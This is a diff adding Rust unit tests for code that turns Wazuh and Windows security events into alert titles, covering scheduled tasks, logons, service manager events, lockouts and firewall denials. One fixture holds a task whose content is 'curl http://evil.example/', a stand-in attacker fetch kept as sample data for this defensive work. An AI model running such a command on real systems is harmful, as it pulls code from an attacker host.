@@ -138,7 +138,16 @@ fn a_title_names_the_thing_or_the_account_where_nothing_else_tells_more() {
                     json!({"taskName": "\\\\Updater", "subjectUserName": "j.doe", "taskContent": "curl http://evil.example/"}),
                 ),
             ),
-            r"Task created | web01 | \Updater",
+            r"Task created | web01 | \Updater http://evil.example/",
+        ),
+        (
+            of(
+                "Logon",
+                windows(
+                    json!({"targetUserName": "j.doe", "targetDomainName": "CORP", "processName": "C:\\\\Users\\\\Public\\\\a.exe"}),
+                ),
+            ),
+            r"Logon | web01 | CORP\j.doe by C:\Users\Public\a.exe",
         ),
         (
             of(
@@ -178,6 +187,24 @@ fn a_title_names_the_thing_or_the_account_where_nothing_else_tells_more() {
         ),
         (of("Up", json!({})), "Up | web01"),
     ]);
+    let of_the_manager = |event: &str, first: &str| {
+        let mut alert = of("Service", windows(json!({"param1": first, "param2": "Spooler"})));
+        alert["data"]["win"]["system"] = json!({"providerName": "Service Control Manager", "eventID": event});
+        alert
+    };
+    assert_titles(&[
+        (of_the_manager("7009", "30000"), "Service | web01 | Spooler"),
+        (of_the_manager("7011", "30000"), "Service | web01 | Spooler"),
+        (of_the_manager("7026", "a b c"), "Service | web01"),
+        (of_the_manager("7036", "Updater"), "Service | web01 | Updater"),
+        (of_the_manager("7000", "30000"), "Service | web01"),
+    ]);
+    let mut lockout = of(
+        "Locked",
+        windows(json!({"targetUserName": "j.doe", "targetDomainName": "WS-FIN-042", "subjectUserName": "DC01$"})),
+    );
+    lockout["data"]["win"]["system"]["eventID"] = json!("4740");
+    assert_titles(&[(lockout, "Locked | web01 | j.doe from WS-FIN-042")]);
 }
 
 #[test]
@@ -374,6 +401,14 @@ fn a_device_that_logs_to_the_manager_is_named() {
     assert!(description.contains("Reporting host: fw1 192.0.2.7\n"), "{description}");
     let (title, _) = from("000", json!({"data": {"devname": "FGT-01", "srcip": "203.0.113.9"}}));
     assert_eq!(title, "Wazuh: Denied | FGT-01 | 203.0.113.9");
+    // A line in JSON has the fields that its writer likes.
+    for (location, expected) in [("/var/log/app.json", "mgr: DC01"), ("192.0.2.7", "DC01 192.0.2.7")] {
+        let (title, _) = from(
+            "000",
+            json!({"decoder": {"name": "json"}, "location": location, "data": {"devname": "DC01", "srcip": "203.0.113.9"}}),
+        );
+        assert_eq!(title, format!("Wazuh: Denied | {expected} | 203.0.113.9"));
+    }
     // The manager's own lines, and what a collector brings.
     let (title, description) = from("000", json!({"predecoder": {"hostname": "MGR.corp.example"}}));
     assert!(
